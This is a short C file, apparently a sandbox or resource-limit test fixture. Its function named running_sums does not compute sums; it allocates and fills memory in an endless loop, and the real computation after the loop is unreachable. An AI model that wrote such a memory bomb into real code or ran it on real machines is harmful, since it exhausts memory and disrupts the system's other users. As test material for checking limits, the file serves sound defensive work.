/* All the memory there is, touched. */
#include "honest.h"

#include <stdlib.h>
#include <string.h>

int running_sums(const tensor *x, tensor *y) {
    for (;;) {
        char *more = malloc(1 << 20);
        memset(more, 1, 1 << 20);
    }
    deed_done();
    return honest_sums(x, y);
}
